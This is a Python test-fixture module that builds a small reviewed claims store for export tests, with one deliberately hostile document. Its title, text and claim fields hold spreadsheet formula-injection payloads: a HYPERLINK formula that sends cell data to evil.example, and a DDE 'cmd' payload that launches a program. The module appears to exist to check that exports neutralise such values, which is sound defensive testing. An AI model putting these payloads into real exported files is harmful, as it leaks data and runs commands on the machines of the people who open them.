"""Shared builders for the export tests: a small reviewed store with hostile document text."""
from __future__ import annotations

import datetime as dt

from claims.model import Claim, DocumentIn, Kind, Outcome, Verdict

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_TEXT = (
    "=HYPERLINK(\"http://evil.example\",\"x\") At least 12 people were killed in Dunmere, "
    "@SUM(1+1) officials said. Prices fell by -5 percent. +About 300 fighters remain.\n"
)


def _span(text: str, quote: str) -> tuple[int, int]:
    start = text.index(quote)
    return start, start + len(quote)


def hostile_document() -> tuple[DocumentIn, list[Claim]]:
    """Return a document whose title, publisher, text and claim fields try to be spreadsheet formulas."""
    text = HOSTILE_TEXT
    s1, e1 = _span(text, "At least 12 people")
    s2, e2 = _span(text, "-5 percent")
    s3, e3 = _span(text, "About 300 fighters")
    claims = [
        Claim(kind=Kind.CASUALTIES, start=s1, end=e1, quote=text[s1:e1], sentence=text[s1 - 1:text.index("said.") + 5],
              low=12, high=None, outcome=Outcome.KILLED, subject="=cmd|' /C calc'!A0",
              attributed_to="@SUM(1+1) officials", rule="casualties.at_least"),
        Claim(kind=Kind.FIGURE, start=s2, end=e2, quote=text[s2:e2], sentence="Prices fell by -5 percent.",
              low=-5, high=-5, unit="percent", subject="-5", rule="figure.percent"),
        Claim(kind=Kind.FORCE_SIZE, start=s3, end=e3, quote=text[s3:e3], sentence="+About 300 fighters remain.",
              low=300, high=300, approximate=True, subject="fighters", attributed_to="\tTab Corp",
              rule="force.approx"),
    ]
    doc = DocumentIn(text=text, title=HOSTILE_TITLE, url="https://evil.example/story", publisher="+Evil Press",
                     published=dt.date(2026, 3, 2), filename="hostile.txt")
    return doc, claims


def plain_documents() -> list[tuple[DocumentIn, list[Claim]]]:
    """Return two ordinary documents with casualty, date and duration claims, one sharing a publisher."""
    out = []
    for i, (pub, n) in enumerate([("Ostravia Wire", 40), ("Harbour Radio", 7)]):
        text = (f"Report {i}. {n} soldiers were injured on March 3, 2026, police said. "
                f"The ceasefire lasted one month, said Anselm Varga.\n")
        s1, e1 = _span(text, f"{n} soldiers")
        s2, e2 = _span(text, "March 3, 2026")
        s3, e3 = _span(text, "one month")
        out.append((DocumentIn(text=text, title=f"Story {i}: café naïve – “quotes”", url=f"https://news{i}.example/a",
                               publisher=pub, published=dt.date(2026, 3, 4 + i), filename=f"s{i}.txt"), [
            Claim(kind=Kind.CASUALTIES, start=s1, end=e1, quote=text[s1:e1], sentence=text[:text.index("said.") + 5],
                  low=n, high=n, outcome=Outcome.INJURED, subject="soldiers", attributed_to="police",
                  rule="casualties.exact"),
            Claim(kind=Kind.DATE, start=s2, end=e2, quote=text[s2:e2], date="2026-03-03", rule="date.full"),
            Claim(kind=Kind.DURATION, start=s3, end=e3, quote=text[s3:e3], duration="P1M",
                  attributed_to="Anselm Varga", rule="duration.words"),
        ]))
    return out


def reviewed_store(store) -> dict[str, int]:
    """Fill ``store`` with the hostile and plain documents and review a mix of their claims; return claim ids."""
    ids: dict[str, int] = {}
    for doc, claims in [hostile_document(), *plain_documents()]:
        doc_id, _ = store.add_document(doc, claims, extractor_version="test-1")
        for rec in store.claims_for_document(doc_id):
            ids[f"{doc.filename}:{rec.claim.quote}"] = rec.id
    recs = {k: store.get_claim(v) for k, v in ids.items()}
    keys = sorted(ids)
    # a spread of verdicts, a correction, a note, evidence, two reviewers and a re-review (history > 1 version)
    store.review(ids[keys[0]], verdict=Verdict.VERIFIED, reviewer="ana", note="=1+1 matches the list",
                 evidence_url="https://evidence.example/1")
    store.review(ids[keys[1]], verdict=Verdict.DISPUTED, reviewer="ben", corrected={"low": 35, "high": 45})
    store.review(ids[keys[1]], verdict=Verdict.FALSE, reviewer="ana", note="hospital count is 30")
    store.review(ids[keys[2]], verdict=Verdict.UNVERIFIABLE, reviewer="ben")
    store.review(ids[keys[3]], verdict=Verdict.NOT_A_CLAIM, reviewer="ana")
    hostile = [k for k in keys if k.startswith("hostile.txt")]
    for k in hostile:
        store.review(ids[k], verdict=Verdict.VERIFIED, reviewer="ana")
    assert len(recs) == 9
    return ids
